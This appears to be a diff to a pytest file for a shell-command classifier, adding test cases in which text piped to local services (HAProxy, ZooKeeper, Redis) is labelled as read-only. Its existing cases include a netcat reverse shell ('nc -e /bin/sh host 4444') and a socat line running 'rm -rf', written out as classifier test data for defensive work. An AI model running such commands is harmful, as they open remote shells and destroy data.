@@ -210,6 +210,9 @@ def test_ssh_here_docs_are_the_remote_commands_input(classifier: Classifier, com
     ("echo hi | nc -e /bin/sh host 4444", Crud.UPDATE, True),
     ("echo x | socat - EXEC:'rm -rf /tmp/x'", Crud.UPDATE, True),
     ("echo show | socat - /etc/hosts", Crud.UPDATE, True),  # a bare path: written into
+    ("echo 'show info' | socat stdio /run/haproxy/admin.sock", Crud.READ, False),  # a socket
+    ("echo ruok | nc localhost 2181", Crud.READ, False),
+    ("echo -e 'PING\\r' | nc -q 1 localhost 6379", Crud.READ, False),
     ("echo c3RhdHM= | base64 -d | nc localhost 11211", Crud.READ, True),  # decoded: asks
 ])
 def test_text_sent_to_a_service_is_classified_by_its_requests(
